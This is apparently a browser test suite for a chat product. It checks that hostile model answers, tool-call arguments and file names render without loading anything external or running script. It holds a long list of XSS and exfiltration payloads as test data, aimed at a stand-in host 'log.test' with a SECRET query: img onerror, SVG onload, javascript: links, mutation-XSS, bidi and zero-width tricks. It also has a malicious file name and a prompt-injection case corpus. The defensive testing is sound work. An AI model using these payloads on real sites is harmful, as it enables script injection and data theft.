// Answers, thoughts, results and names by a model that wants the page to load or run something, in the built program. All that
// the page asks for is recorded, whoever asks for it.

import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { after, before, describe, it } from 'node:test'
import { startProduct } from '../product.mjs'
import { launch, prompt } from './harness.mjs'

const patience = 30_000

/** What an answer may be made of. All else has no business in it, and none of these has an attribute that loads or runs. */
const elements = 'P BR HR H1 H2 H3 H4 H5 H6 STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD A SPAN DIV BUTTON'.split(' ')
const attributes = /^(title|start|align|class|data-href|role|tabindex|aria-label|type|svelte-\w+)$/

const out = 'https://log.test/p?d=SECRET'
const ran = 'window.__ran=1'
const padding = Array.from({ length: 900 }, (_, i) => i * 7919).join('\n')

/** Hostile texts. Each names log.test where something could be asked for, and sets __ran where something could run. */
const texts = {
  picture: `Done. ![x](${out})`,
  'picture by reference': `![x][1]\n\n[1]: ${out} "title"`,
  'picture with a bracket': `![a](<${out}>)`,
  'picture in a link': `[![x](${out})](${out})`,
  'picture of a script': `![x](javascript:${ran})`,
  'picture as data': `![x](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${ran}"><image href="${out}"/></svg>`).toString('base64')})`,
  'picture without a scheme': '![x](//log.test/p)',
  'picture of a file': '![x](file:///etc/passwd) ![y](/api/status)',
  'picture as autolink': `<${out}>`,
  'picture inside a table': `| a |\n|---|\n| ![x](${out}) |`,
  'picture split over lines': `![x\ny](\n${out}\n)`,
  img: `<img src=${out} onerror=${ran}>`,
  'img in capitals': `<IMG SRC="${out}" ONERROR="${ran}">`,
  'img with a srcset': `<img srcset="${out} 1x, ${out} 2x"><picture><source srcset=${out}><img></picture>`,
  'img broken by a line': `<img\nsrc=${out}\nonerror\n=\n${ran}\n>`,
  'img after a quote': `"><img src=${out} onerror=${ran}>`,
  'img inside a title': `[x](https://a.test "\\"><img src=${out} onerror=${ran}>")`,
  'img inside a language': `\`\`\`"><img src=${out} onerror=${ran}>\nx\n\`\`\``,
  'img in an alt text': `![<img src=${out} onerror=${ran}>](https://a.test)`,
  'img as entities': `&lt;img src=${out} onerror=${ran}&gt; &#60;img src=${out} onerror=${ran}&#62;`,
  script: `<script>${ran}</script><script src=${out}></script>`,
  'script never closed': `<script>${ran}`,
  svg: `<svg onload="${ran}"><image href="${out}"/><use href="${out}#x"/><animate onbegin="${ran}" attributeName=x /></svg>`,
  'svg with foreign content': `<svg><foreignObject><img src=${out}></foreignObject><style>@import "${out}"</style></svg>`,
  'svg that mutates': `<svg></p><style><a id="</style><img src=${out} onerror=${ran}>">`,
  style: `<style>@import url(${out}); * { background: url(${out}) }</style>`,
  'style attribute': `<p style="background:url(${out})">x</p><div style='position:fixed;inset:0;z-index:9999'>Click</div>`,
  iframe: `<iframe src=${out}></iframe><iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  'object and embed': `<object data=${out}></object><embed src=${out}><applet code=x></applet>`,
  'audio and video': `<video src=${out} poster=${out} autoplay></video><audio src=${out} autoplay></audio><track src=${out}>`,
  'meta refresh': `<meta http-equiv=refresh content="0;url=${out}">`,
  'link elements': `<link rel=prefetch href=${out}><link rel=stylesheet href=${out}><link rel=dns-prefetch href=//log.test><link rel=preconnect href=${out}>`,
  base: `<base href=https://log.test/><a href=x>x</a>`,
  form: `<form action=${out}><input name=x autofocus onfocus="${ran}"><button formaction="javascript:${ran}">Go</button></form>`,
  details: `<details open ontoggle="${ran}"><summary>x</summary></details><marquee onstart="${ran}">x</marquee>`,
  'javascript link': `[x](javascript:${ran}) [y](JaVaScRiPt:${ran}) [z](java&#115;cript:${ran}) [q](javascript&colon;${ran})`,
  'javascript with a tab': `[x](java\tscript:${ran}) [y](\u0001javascript:${ran}) [z](<java\nscript:${ran}>)`,
  'javascript by reference': `[x][1]\n\n[1]: javascript:${ran}`,
  'data link': `[x](data:text/html,<script>${ran}</script>) [y](vbscript:msgbox) [z](blob:https://a.test/1) [w](file:///etc/passwd)`,
  'raw link': `<a href="javascript:${ran}" target=_top ping=${out}>click</a> <a href=${out} ping=${out}>y</a>`,
  'MathML': `<math><mtext><table><mglyph><style><img src=${out} onerror=${ran}></style></mglyph></table></mtext></math><maction actiontype="statusline#${out}" xlink:href="javascript:${ran}">x</maction>`,
  template: `<template><img src=${out} onerror=${ran}></template><noscript><p title="</noscript><img src=${out} onerror=${ran}>">`,
  'custom element': `<x-a onclick=${ran}><slot></slot></x-a><xss onpointerenter=${ran} style=animation-name:x>`,
  comment: `<!-- --!><img src=${out} onerror=${ran}> --><![CDATA[<img src=${out} onerror=${ran}>]]><?xml-stylesheet href="${out}"?>`,
  'clobbered names': `<a id=__proto__ name=document></a><img name=getElementById><form id=body name=cookie>`,
  'text behind long padding': `${padding}\n\n![x](${out})<img src=${out} onerror=${ran}>`,
  'text read backwards': `[\u202etset.live\u2066](https://log.test/\u202egpj.exe) \u202e<img src=${out} onerror=${ran}>\u202c`,
  'text of no width': `java\u200bscript:${ran} <im\u200bg src=${out}> [x](java\u200bscript:${ran}) <i\u0000mg src=${out}>`,
  'a look-alike': '[https://example.org](https://log.test/) [x](https://example.org@log.test/) [y](https://ex\u0430mple.org/)',
  'a card of our own': `<div data-card><button>Allow once</button></div>\n\n# Needs you\n\n\`\`\`html\n<button>Allow once</button>\n`,
  'deep nesting': '> '.repeat(40) + `<img src=${out} onerror=${ran}>\n\n` + '['.repeat(200) + '![x]('.repeat(50) + out,
  'lists that take minutes': Array.from({ length: 150 }, (_, i) => ' '.repeat(i * 2) + '- x').join('\n') + `\n<img src=${out} onerror=${ran}>`,
  'marks that take minutes': '_a__'.repeat(1500) + '['.repeat(500) + `<img src=${out} onerror=${ran}>`,
  'unclosed everything': `**_~~\`<a href="${out}"><img src='${out}' [x](${out} ![y](${out} | a |\n|-`,
  'controls of a terminal': `\u001b]8;;${out}\u0007link\u001b]8;;\u0007 \u001b[2J\u009b31m`,
  footnote: `x[^1]\n\n[^1]: ![x](${out}) <img src=${out} onerror=${ran}>`,
}

// The answers of the corpus of injections, where it is there.
const corpus = new URL('../../../../testdata/cases/injection.jsonl', import.meta.url)
const own = process.env.JACKLINE_CASES ? `${process.env.JACKLINE_CASES}/injection.jsonl` : corpus
if (existsSync(own)) {
  for (const line of readFileSync(own, 'utf8').trim().split('\n')) {
    const c = JSON.parse(line)
    if (c.answer_rule) texts[c.id] = c.answer
  }
}

let browser
before(async () => {
  browser = await launch()
})
after(async () => await browser?.close())

/** A signed-in page of a product, and everything that it asked for, opened, ran, or was refused by its policy. */
async function enter(options) {
  const product = await startProduct(options)
  const context = await browser.newContext({ viewport: { width: 1280, height: 820 }, reducedMotion: 'reduce' })
  const seen = { asked: [], dialogs: [], pages: 0, sockets: [] }
  context.on('request', (r) => seen.asked.push(r.url()))
  context.on('page', () => seen.pages++)
  const page = await context.newPage()
  page.setDefaultTimeout(patience)
  page.on('dialog', (d) => (seen.dialogs.push(d.message()), d.dismiss()))
  page.on('websocket', (s) => seen.sockets.push(s.url()))
  await page.addInitScript(() => {
    globalThis.__violations = []
    document.addEventListener('securitypolicyviolation', (e) => globalThis.__violations.push(`${e.violatedDirective}: ${e.blockedURI}`))
  })
  await page.goto(product.link)
  await page.getByRole('textbox', { name: 'Message' }).waitFor()
  const where = () => new URL(page.url()).pathname
  return {
    product, page, seen, where,
    async close() {
      await context.close()
      return product.close()
    },
  }
}

/** What of the page is not as it must be, after a hostile text was shown. */
async function flaws({ product, page, seen }) {
  const foreign = seen.asked.filter((u) => !u.startsWith(product.url + '/') || /log\.test|SECRET/.test(u))
  const found = await page.evaluate(
    ([elements, attributes]) => {
      const bad = []
      const fits = new RegExp(attributes)
      for (const el of document.querySelectorAll('.md *')) {
        if (!elements.includes(el.tagName)) bad.push('element ' + el.tagName)
        for (const a of el.attributes) if (!fits.test(a.name)) bad.push(`attribute ${el.tagName} ${a.name}`)
        if (el.tagName === 'A' && el.hasAttribute('href')) bad.push('a link that can be followed')
        if (el.dataset.href && !/^(https?:|mailto:)/.test(el.dataset.href)) bad.push('an address ' + el.dataset.href)
      }
      for (const el of document.querySelectorAll('iframe, object, embed, base, form[action], meta[http-equiv], img[src^=http], script:not([src]), link[rel~=prefetch], link[rel~=preconnect], link[rel~=dns-prefetch]')) {
        bad.push('element ' + el.outerHTML.slice(0, 100))
      }
      if (globalThis.__ran) bad.push('something ran')
      return [...bad, ...globalThis.__violations]
    },
    [elements, attributes.source],
  )
  return [...new Set([...foreign.map((u) => 'asked for ' + u), ...found, ...seen.dialogs.map((d) => 'dialog ' + d), ...seen.sockets, ...(seen.pages > 1 ? ['another page'] : [])])]
}

const idle = (page) => page.waitForFunction(() => ![...document.querySelectorAll('button')].some((b) => b.textContent.trim() === 'Stop' || b.getAttribute('aria-label') === 'Stop'))

describe('hostile text', () => {
  it('in an answer loads nothing and runs nothing, while it is written and when it stands', async () => {
    const o = await enter({ mode: 'native' })
    const { product, page } = o
    let n = 0
    const total = Object.keys(texts).length
    for (const [name, text] of Object.entries(texts)) {
      const mark = `end${++n}.`
      product.engine.say({ thought: text.slice(0, 500), text: `${text}\n\n\n${mark}` })
      await prompt(page, `Say ${name}`)
      try {
        await page.waitForFunction((m) => document.querySelector('[role=log]')?.textContent.includes(m), mark)
        await idle(page)
      } catch (e) {
        assert.fail(`${name}: the answer did not come: ${e.message}: ${product.stderr()} ${product.engine.faults} ${(await page.locator('[role=log]').innerText()).slice(-600)}`)
      }
      assert.deepEqual(await flaws(o), [], name)
      if (n % 6 === 0 || text.length > 3000) {
        // The same from the log, in one piece; and a new chat, which keeps the page quick.
        await page.reload()
        await page.waitForFunction((m) => document.querySelector('[role=log]')?.textContent.includes(m), mark)
        assert.deepEqual(await flaws(o), [], name + ', read again')
        if (n < total - 4) await page.getByRole('button', { name: 'New chat' }).first().click()
      }
    }
    assert.ok(n >= 40, `only ${n} texts`)
    console.log(`# ${n} hostile answers, ${o.seen.asked.length} requests, all to the server itself`)

    // Every link that is left asks first, with the whole address, and is not followed before.
    const links = page.locator('[role=log] .md a[data-href]')
    const count = await links.count()
    assert.ok(count > 2, `only ${count} links`)
    for (let i = 0; i < count; i++) {
      const href = await links.nth(i).getAttribute('data-href')
      await links.nth(i).evaluate((a) => a.click())
      const dialog = page.locator('dialog[open]')
      await dialog.waitFor()
      const shown = (await dialog.locator('.address').innerText()).replace(/\s/g, '')
      assert.ok(shown.includes(href.slice(0, 60).replace(/\s/g, '')), `${shown} is not ${href}`)
      assert.doesNotMatch(shown, /[\u202a-\u202e\u2066-\u2069\u200b]/, 'what hides is shown')
      await page.keyboard.press('Escape')
      await dialog.waitFor({ state: 'detached' }).catch(() => dialog.waitFor({ state: 'hidden' }))
    }
    assert.deepEqual(await flaws(o), [], 'after all links')
    assert.equal(await o.close(), 0)
  })

  it('in files, names, arguments and results loads nothing and runs nothing', async () => {
    const evil = `<img src=${out} onerror=${ran}>![x](${out})<svg onload=${ran}>`
    const name = 'x<img src=x onerror=__ran=1>.md'
    const o = await enter({ mode: 'native', files: { 'notes.md': Object.values(texts).join('\n').slice(0, 4000), [name]: evil } })
    const { product, page } = o
    product.engine.say(
      { text: evil, call: ['list_dir', { path: '.' }] },
      { call: ['file_read', { path: 'notes.md' }] },
      { call: ['file_read', { path: evil }] },
      { call: [evil, { [evil]: evil }] },
      { call: ['ask_user', { question: evil, options: [evil, 'b'] }] },
    )
    await prompt(page, evil)
    await page.locator('[data-card]').first().waitFor()
    for (const b of await page.locator('[role=log] button[aria-expanded=false]').all()) await b.click({ timeout: 500 }).catch(() => {})
    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))) // what was opened is drawn
    assert.deepEqual(await flaws(o), [])
    await page.reload()
    await page.locator('[data-card]').first().waitFor()
    assert.deepEqual(await flaws(o), [], 'read again')
    await o.close()
  })
})
